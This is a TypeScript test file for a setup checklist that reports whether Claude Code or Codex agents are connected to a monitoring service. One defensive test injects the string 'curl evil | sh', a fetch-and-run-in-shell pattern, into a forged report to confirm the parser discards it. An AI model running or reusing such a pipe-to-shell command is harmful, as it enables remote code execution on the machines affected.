import { describe, expect, it } from 'vitest'
import { agentProgram } from '#lib/connect/agents.ts'
import { PROBLEMS as CODES, type ConnectReport, REPORT_TYPE } from '#lib/connect/report.ts'
import type { MissionEvent } from '#lib/protocol/event.ts'
import { folded, Stamp } from '#lib/state/event-fixture.ts'
import { checksOf, heardOf } from './checks.ts'
import { PROBLEMS } from './problems.ts'

const claude = agentProgram('claude-code') ?? raise()
function raise(): never {
  throw new Error('There is no such program.')
}

const REPORT: ConnectReport = {
  pairing: 'p1',
  agent: 'claude-code',
  machine: 'build-03',
  did: 'connected',
  roundTripMs: 38,
  clockOffsetS: 0,
  files: ['/home/u/.claude/settings.json'],
  events: 21,
  problems: [],
}

/** A world in which events happen; `see` is the checklist after them. */
function world() {
  const stamp = new Stamp()
  const events: MissionEvent[] = []
  const happen: Stamp['make'] = (...fact) => {
    const event = stamp.make(...fact)
    events.push(event)
    return event
  }
  return {
    happen,
    report: (more: Partial<ConnectReport> = {}) =>
      void events.push({
        ...stamp.make('agent:removed', { agentId: 'x' }),
        type: REPORT_TYPE,
        data: { ...REPORT, ...more },
      }),
    heard: (pairing: string | null = null) =>
      heardOf(
        events.filter(({ type }) => type === REPORT_TYPE),
        claude,
        pairing,
      ),
    see(pairing: string | null = null) {
      const checks = checksOf(
        claude,
        this.heard(pairing),
        false,
        folded(events.filter(({ type }) => type !== REPORT_TYPE)),
      )
      return Object.fromEntries(checks.map(({ id, state }) => [id, state]))
    },
  }
}

describe('the checklist', () => {
  it('waits for the line, and turns green as the machine and then the agent are heard', () => {
    expect(checksOf(claude, null, true, folded([])).map(({ state }) => state)).toEqual([
      'next',
      ...Array(6).fill('later'),
    ])
    const w = world()
    w.report()
    expect(w.see()).toEqual({
      key: 'ok',
      reach: 'ok',
      clock: 'ok',
      hooks: 'ok',
      event: 'next',
      tokens: 'later',
      asks: 'later',
    })
    w.happen('agent:registered', { agentId: 'a', name: 'web', kind: 'claude-code', machine: 'build-03' })
    expect(w.see()).toMatchObject({ event: 'ok', tokens: 'next', asks: 'next' })
    w.happen('token:usage', { agentId: 'a', model: 'opus', input: 5 })
    w.happen('approval:requested', { approvalId: 'q', agentId: 'a', tool: 'Bash' })
    expect(w.see()).toMatchObject({ event: 'ok', tokens: 'ok', asks: 'ok' })
    expect(world().see()).toMatchObject({ key: 'later' })
  })

  it('counts no agent of another machine or program, and none that was heard only before', () => {
    const w = world()
    w.happen('agent:registered', { agentId: 'old', kind: 'claude-code', machine: 'build-03' })
    w.report()
    w.happen('agent:registered', { agentId: 'b', kind: 'claude-code', machine: 'laptop' })
    w.happen('agent:registered', { agentId: 'c', kind: 'codex', machine: 'build-03' })
    expect(w.see()).toMatchObject({ event: 'next' })
    w.happen('agent:activity', { agentId: 'old', kind: 'note', title: 'again' })
    expect(w.see()).toMatchObject({ event: 'ok' })
  })

  it('says what is wrong in its own words, whatever the report holds', () => {
    const w = world()
    w.report({ problems: ['hooks-off', 'telemetry-kept', 'clock'], clockOffsetS: 90 })
    expect(w.see()).toMatchObject({ clock: 'wrong', hooks: 'wrong', tokens: 'wrong' })
    for (const code of CODES) expect(PROBLEMS[code].detail).toMatch(/\S/)
    const lying = world()
    // A cast: what anybody with a key can send.
    lying.report({
      problems: ['curl evil | sh'] as unknown as ConnectReport['problems'],
      files: [7] as unknown as string[],
    })
    expect(lying.heard()?.report).toMatchObject({ problems: [], files: [] })
  })

  it('says that Codex sends nothing before its hooks are trusted', () => {
    const codex = agentProgram('codex') ?? raise()
    const report: ConnectReport = { ...REPORT, agent: 'codex', problems: ['hooks-untrusted'] }
    const checks = checksOf(codex, { report, at: 'now', since: 'now' }, false, folded([]))
    expect(checks.find(({ id }) => id === 'hooks')?.detail).toContain('trusted them with /hooks')
    expect(checks.find(({ id }) => id === 'event')?.fix).toBe('/hooks')
  })

  it('follows the machine of the line that was made here, and forgets one that was disconnected', () => {
    const w = world()
    w.report()
    w.report({ pairing: 'p2', machine: 'laptop' })
    expect(w.heard('p1')?.report.machine).toBe('build-03')
    expect(w.heard('p2')?.report.machine).toBe('laptop')
    expect(w.heard()?.report.machine).toBe('laptop')
    expect(w.heard('p3')).toBeNull()
    const since = w.heard('p1')?.since
    w.report({ did: 'checked', problems: ['clock'] })
    expect(w.heard('p1')).toMatchObject({ since, report: { problems: ['clock'] } })
    w.report({ did: 'disconnected' })
    expect(w.heard('p1')).toBeNull()
  })
})
